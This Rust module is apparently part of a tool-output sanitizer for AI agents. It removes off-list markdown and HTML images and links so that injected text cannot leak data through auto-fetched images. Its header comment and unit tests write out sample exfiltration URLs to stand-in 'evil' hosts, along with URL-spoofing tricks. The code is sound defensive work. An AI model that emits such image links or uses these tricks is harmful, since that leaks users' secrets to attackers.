//! Dropping markdown images and links (and HTML images) that point off the allow-list.
//!
//! A markdown image in a tool result is fetched by the client the moment it renders, so
//! `![](https://evil.example/p?d=<secret>)` exfiltrates without a click: absolute images
//! whose host is not allowed are always removed. A link needs a click and is what honest
//! documentation is made of (a README links to a dozen hosts), so off-list links are only
//! removed from a text judged injected ([`LinkFilter::apply`]'s `links`), with the link
//! text kept; relative ones stay. Matching uses the regex crate only, so it is linear in
//! the text.

use regex::{Captures, Regex};
use std::borrow::Cow;
use std::sync::LazyLock;

/// What a removed image becomes.
pub const IMAGE_MARKER: &str = "[meshguard: image removed]";
/// What follows the kept text of a removed link.
pub const LINK_MARKER: &str = "[meshguard: link removed]";

#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
static INLINE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(!?)\[((?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\(\s*<?((?:[^\s()<>]|\([^\s()<>]*\))*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)"#,
    )
    .expect("constant regex")
});

#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
static REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
    // No large counted repetitions: `[^\s>]{1,2048}` makes the automaton too big for the
    // lazy DFA, and the regex crate then runs its NFA simulation over every tool result
    // (about half the sanitizer's time on real text).
    Regex::new(r#"(?m)^[ ]{0,3}\[[^\]\n]+\]:[ \t]*<?([^\s>]+)>?[^\n]*"#).expect("constant regex")
});

#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
static HTML_IMG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?i)<img(?-u:\b)[^>]{0,1024}>?"#).expect("constant regex"));

#[allow(clippy::expect_used)] // a constant, compiled by the unit tests: cannot fail at run time
static HTML_SRC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)src\s*=\s*["']?([^"'\s>]{0,2048})"#).expect("constant regex")
});

/// The allow-list and the removal logic.
#[derive(Debug, Clone, Default)]
pub struct LinkFilter {
    allowed: Vec<String>,
}

impl LinkFilter {
    /// A filter keeping links to `allowed` hosts (exact or any subdomain), lowercase.
    pub fn new(allowed: &[String]) -> Self {
        Self {
            allowed: allowed.to_vec(),
        }
    }

    /// `text` without off-list images (and off-list links too when `links` is set: the text
    /// was judged injected), and how many were removed; borrowed when nothing changed.
    /// Reference definitions are links, unless the text also holds an image (`![`) that
    /// could use one.
    pub fn apply<'a>(&self, text: &'a str, links: bool) -> (Cow<'a, str>, usize) {
        if !text.contains("](") && !text.contains("]:") && !contains_img(text) {
            return (Cow::Borrowed(text), 0);
        }
        let mut removed = 0;
        let mut out = Cow::Borrowed(text);
        // Two passes: an image nested in a link's text is removed first, then the link.
        for _ in 0..2 {
            let next = INLINE.replace_all(&out, |c: &Captures| {
                let url = c.get(3).map_or("", |m| m.as_str());
                if (!links && &c[1] != "!") || self.url_allowed(url) {
                    return c[0].to_string();
                }
                removed += 1;
                if &c[1] == "!" {
                    IMAGE_MARKER.to_string()
                } else {
                    format!("{} {LINK_MARKER}", &c[2])
                }
            });
            if let Cow::Owned(s) = next {
                out = Cow::Owned(s);
            } else {
                break;
            }
        }
        let references = links || out.contains("![");
        let next = REFERENCE.replace_all(&out, |c: &Captures| {
            if !references || self.url_allowed(&c[1]) {
                return c[0].to_string();
            }
            removed += 1;
            LINK_MARKER.to_string()
        });
        if let Cow::Owned(s) = next {
            out = Cow::Owned(s);
        }
        if contains_img(&out) {
            let next = HTML_IMG.replace_all(&out, |c: &Captures| {
                let allowed = HTML_SRC
                    .captures(&c[0])
                    .is_some_and(|s| self.url_allowed(&s[1]));
                if allowed {
                    return c[0].to_string();
                }
                removed += 1;
                IMAGE_MARKER.to_string()
            });
            if let Cow::Owned(s) = next {
                out = Cow::Owned(s);
            }
        }
        (out, removed)
    }

    /// Relative URLs and allowed hosts pass; any other absolute or scheme URL does not.
    fn url_allowed(&self, url: &str) -> bool {
        let lower = url.trim().to_ascii_lowercase();
        let authority = if let Some(rest) = lower.strip_prefix("//") {
            rest
        } else if let Some((scheme, rest)) = lower.split_once(':') {
            let is_scheme = !scheme.is_empty()
                && scheme
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b))
                && !scheme.contains(['/', '?', '#']);
            if !is_scheme {
                return true;
            }
            match (scheme, rest.strip_prefix("//")) {
                ("http" | "https", Some(rest)) => rest,
                _ => return false,
            }
        } else {
            return true;
        };
        let host_port = authority
            .split(['/', '?', '#', '\\'])
            .next()
            .unwrap_or("")
            .rsplit('@')
            .next()
            .unwrap_or("");
        let host = if host_port.starts_with('[') {
            host_port
                .split(']')
                .next()
                .unwrap_or("")
                .trim_start_matches('[')
        } else {
            host_port.split(':').next().unwrap_or("")
        };
        let host = host.trim_end_matches('.');
        !host.is_empty()
            && self.allowed.iter().any(|a| {
                host == a
                    || host
                        .strip_suffix(a.as_str())
                        .is_some_and(|p| p.ends_with('.'))
            })
    }
}

fn contains_img(text: &str) -> bool {
    text.as_bytes()
        .windows(4)
        .any(|w| w.eq_ignore_ascii_case(b"<img"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filter() -> LinkFilter {
        LinkFilter::new(&["docs.example.com".to_string()])
    }

    #[test]
    fn off_list_images_and_links_are_removed() {
        let f = filter();
        let (out, n) = f.apply(
            "see ![x](https://evil.test/p?d={secret}) and [docs](https://evil.test/a \"t\").",
            true,
        );
        assert_eq!(n, 2);
        assert_eq!(out, format!("see {IMAGE_MARKER} and docs {LINK_MARKER}."));
        assert!(!out.contains("evil"));
    }

    #[test]
    fn allowed_and_relative_links_stay() {
        let f = filter();
        let text = "[a](https://docs.example.com/x) [b](https://api.docs.example.com) [c](./README.md) [d](#top)";
        let (out, n) = f.apply(text, true);
        assert_eq!((out.as_ref(), n), (text, 0));
        assert!(matches!(f.apply("no links here", true).0, Cow::Borrowed(_)));
    }

    #[test]
    fn tricky_urls_are_not_allowed() {
        let f = filter();
        for url in [
            "https://docs.example.com.evil.test/",
            "https://docs.example.com@evil.test/",
            "//evil.test/x",
            "javascript:alert(1)",
            "data:image/png;base64,AAAA",
            "HTTPS://EVIL.TEST",
            "https://evildocs.example.com/",
        ] {
            let (_, n) = f.apply(&format!("![i]({url})"), false);
            assert_eq!(n, 1, "{url}");
        }
        let (_, n) = f.apply("![i](https://DOCS.example.com:443/a.png)", false);
        assert_eq!(n, 0);
    }

    #[test]
    fn nested_reference_and_html_images() {
        let f = filter();
        let (out, n) = f.apply("[![i](https://evil.test/i.png)](https://evil.test/)", true);
        assert_eq!(n, 2, "{out}");
        assert!(!out.contains("evil"), "{out}");
        let (out, n) = f.apply("intro\n[1]: https://evil.test/x \"t\"\nend", true);
        assert_eq!(n, 1);
        assert!(!out.contains("evil"), "{out}");
        let (out, n) = f.apply("<IMG src=\"https://evil.test/x.png\" width=1> ok <img src='https://docs.example.com/a.png'>", false);
        assert_eq!(n, 1);
        assert!(
            out.starts_with(IMAGE_MARKER) && out.contains("docs.example.com"),
            "{out}"
        );
    }

    #[test]
    fn links_in_honest_text_stay_images_do_not() {
        let f = filter();
        let doc = "See [the guide](https://readthedocs.io/x) and [PEP 8](https://peps.python.org/pep-0008/).\n\n[ref]: https://github.com/a/b";
        let (out, n) = f.apply(doc, false);
        assert_eq!((out.as_ref(), n), (doc, 0));
        let (out, n) = f.apply(doc, true);
        assert_eq!(n, 3, "{out}");
        // A reference definition feeding an image is an image.
        let (out, n) = f.apply("![chart][c]\n[c]: https://evil.test/p.png?d=1", false);
        assert_eq!(n, 1, "{out}");
        assert!(!out.contains("evil.test"), "{out}");
    }
}
